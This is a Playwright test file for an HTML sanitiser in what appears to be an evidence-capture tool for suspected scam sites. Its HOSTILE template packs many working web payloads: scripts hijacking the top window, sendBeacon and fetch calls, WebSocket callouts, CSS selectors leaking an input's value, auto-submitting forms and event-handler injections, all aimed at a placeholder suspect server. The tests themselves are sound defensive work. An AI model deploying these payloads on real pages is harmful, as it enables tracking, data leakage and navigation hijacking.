"""Hostile captured pages in a real browser: nothing runs, nothing leaves; and without our rewriting they would."""

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, Page

from tests.desk.browsing import Browsing
from tests.desk.capture.suspect import Suspect, suspect
from tests.desk.office import Office
from tests.text.inert.snippets import SNIPPETS
from text.inert import Draft

pytestmark = pytest.mark.browser

#: Snippets that reach the suspect in today's browser by being looked at; the others were made for older ones.
MANY = 40
#: Snippets of one page, one behind the other: a frame of its own for each takes the browser ten seconds.
TOGETHER = 5
PAGES = {f"/{number}" for number in range(0, len(SNIPPETS), TOGETHER)}
#: Everything at once, as one site may do it, and what only a whole page can try.
HOSTILE = """<!doctype html><html><head><title>金树财富</title>
<meta http-equiv=refresh content='0;url={S}/refresh'><base href='{S}/' target=_top>
<link rel=preconnect href='{S}'><link rel=dns-prefetch href='{S}'><link rel=prefetch href='{S}/prefetch'>
<link rel=stylesheet href='{S}/sheet.css'><script src='{S}/script.js'></script>
<script>top.location='{S}/top';parent.document.title='x';alert(1);window.open('{S}/popup');
new WebSocket('{W}');navigator.sendBeacon('{S}/beacon');fetch('{S}/fetch');document.title='changed'</script>
<style>@import '{S}/import.css';@font-face{{font-family:f;src:url({S}/font);unicode-range:U+0-7F}}
body{{font-family:f}}input[value^='1']{{background:url({S}/leak1)}}input[value$='0']{{background:url({S}/leak0)}}
p{{background:url({S}/p)}}</style></head>
<body onload="top.location='{S}/onload'" background='{S}/background'>
<p>日返千分之五，保本保息，联系电话 138<b>0013</b>8000</p>
<form id=f action='{S}/form' method=post target=_top><input name=a value=13800138000 autofocus>
<button id=b>提交</button>
<input type=submit formaction='{S}/formaction' value=x></form><script>document.getElementById('f').submit()</script>
<a id=a href='{S}/link' ping='{S}/ping' target=_top>点这里</a><a href='javascript:top.location="{S}/js"'>再点</a>
<iframe src='{S}/frame'></iframe><iframe srcdoc='<script>top.location="{S}/srcdoc"</script>'></iframe>
<svg width=9 height=9><script>top.location='{S}/svg'</script><image href='{S}/image' width=9 height=9 />
<use href='{S}/use#x' /><foreignObject><img src='{S}/foreign'></foreignObject>
<animate attributeName=href to='javascript:top.location="{S}/animate"' begin=0s /></svg>
<img src='{S}/img' srcset='{S}/srcset 2x'><video src='{S}/video' poster='{S}/poster' autoplay></video>
<object data='{S}/object'></object><embed src='{S}/embed'><img src=x onerror="top.location='{S}/onerror'">
<details open ontoggle="top.location='{S}/toggle'"><summary>x</summary></details>
<dialog open><form method=dialog action='{S}/dialog'><button autofocus>x</button></form></dialog></body></html>"""


@pytest.fixture
def server() -> Iterator[Suspect]:
    """The suspect's server."""
    with suspect() as found:
        yield found


def numbered(write: Callable[[str], str], target: Suspect) -> Callable[[str], str | None]:
    """A site with a page for some snippets together, and one that shows all these pages in frames."""

    def page(path: str) -> str | None:
        if path == "/all":
            return "".join(f"<iframe src={each} width=60 height=40></iframe>" for each in sorted(PAGES))
        if path not in PAGES:
            return None
        some = range(int(path[1:]), min(int(path[1:]) + TOGETHER, len(SNIPPETS)))
        return "".join(write(SNIPPETS[number].format(S=f"{target.address}/{number}")) for number in some)

    return page


def look(browser: Browser, address: str, is_enough: Callable[[], bool], then_ms: int = 0) -> list[str]:
    """Open a page until enough has happened, press what can be pressed; what the browser said and did of its own."""
    context = browser.new_context()
    tab = context.new_page()
    said: list[str] = []
    tab.on("dialog", lambda dialog: (said.append(f"dialog {dialog.message}"), dialog.dismiss()))
    tab.on("popup", lambda popup: said.append(f"popup {popup.url}"))
    tab.goto(address, wait_until="commit")
    for _ in range(150):
        if is_enough():
            break
        tab.wait_for_timeout(100)
    tab.wait_for_timeout(then_ms)
    tab.keyboard.press("Enter")
    said += [] if tab.url == address else [f"went to {tab.url}"]
    context.close()
    return said


def test_without_rewriting_the_suspect_is_reached(chromium: Browser, server: Suspect) -> None:
    """The control: the same snippets as they are reach the suspect's server, most of them by only being looked at."""

    def reached() -> set[str]:
        return {path.split("/")[1] for path in server.paths}

    with suspect(numbered(lambda page: page, server)) as site:
        look(chromium, f"{site.address}/all", lambda: len(reached()) > MANY)

    assert len(reached()) > MANY, sorted(reached())


def test_rewriting_alone_keeps_every_snippet_still(chromium: Browser, server: Suspect) -> None:
    """No header, no sandbox, scripts allowed: of the rewritten pages nothing runs and nothing leaves."""

    def rewritten(page: str) -> str:
        draft = Draft(page.encode("utf-8", "replace"), "text/html; charset=utf-8", f"{server.address}/p/")
        return draft.inert(lambda _: None).html

    with suspect(numbered(rewritten, server)) as site:
        said = look(chromium, f"{site.address}/all", lambda: set(site.paths) >= PAGES, 1000)
        asked = set(site.paths)

    assert server.connections == 0, server.paths
    assert said == []
    # Every frame was opened, and none of them asked for anything but itself.
    assert asked >= PAGES
    assert asked - PAGES <= {"/all", "/favicon.ico"}


def watched(tab: Page) -> list[str]:
    """What a tab does that it should not, as it happens."""
    said: list[str] = []
    tab.on("dialog", lambda dialog: (said.append(f"dialog {dialog.message}"), dialog.dismiss()))
    tab.on("popup", lambda popup: said.append(f"popup {popup.url}"))
    tab.on("console", lambda message: said.append(f"console {message.type} {message.text}"))
    tab.on("pageerror", lambda error: said.append(f"error {error}"))
    tab.on("websocket", lambda socket: said.append(f"websocket {socket.url}"))
    tab.on("download", lambda download: said.append(f"download {download.url}"))
    return said


def test_hostile_page_in_its_frame(desk: Browsing, office: Office, server: Suspect) -> None:
    """The whole room with the hostile page in it: shown, readable, masked, and dead to keyboard and mouse."""
    with suspect() as second:
        page = HOSTILE.format(S=server.address, W=second.address.replace("http", "ws"))
        lead = office.lead(f"{server.address}/", body=page.encode())
        tab = desk.person()
        said, asked = watched(tab), []
        tab.on("request", lambda request: asked.append(request.url))
        tab.goto(f"/pages/{lead.page_id}/evidence")
        title, address = tab.title(), tab.url
        frame = tab.frame_locator("iframe.capture")
        for view in ("原貌", "显示隐藏内容", "标出网址", "文字", "原样"):
            tab.get_by_role("link", name=view, exact=True).click()
            frame.locator("body").wait_for()
            frame.get_by_text("日返千分之五").first.wait_for()
        frame.locator("a").first.click()
        frame.locator("summary").click()
        frame.locator("button").first.click(force=True)
        for key in ("Enter", "Space", "Enter"):
            tab.keyboard.press(key)
        tab.wait_for_timeout(500)
        text = frame.locator("body").inner_text()

        assert said == []
        assert {url.removeprefix(desk.address)[:1] for url in asked if not url.startswith("data:image/")} == {"/"}
        assert all(url.startswith((f"{desk.address}/", "data:image/")) for url in asked), asked
        assert server.connections == second.connections == 0, (server.paths, second.paths)
        assert (tab.title(), tab.url) == (title, address)
        assert len(tab.context.pages) == 1
        assert "138****8000" in text
        assert "13800138000" not in tab.content() + text


def test_control_the_hostile_page_as_it_is(chromium: Browser, server: Suspect) -> None:
    """The control: without the desk the same page takes the tab away and reaches the suspect on both ports."""
    with suspect() as second:
        page = HOSTILE.format(S=server.address, W=second.address.replace("http", "ws"))
        with suspect(lambda path: page if path == "/" else None) as site:
            look(chromium, f"{site.address}/", lambda: len(set(server.paths)) > 3)

        assert "/script.js" in server.paths
        assert len(set(server.paths)) > 3, server.paths
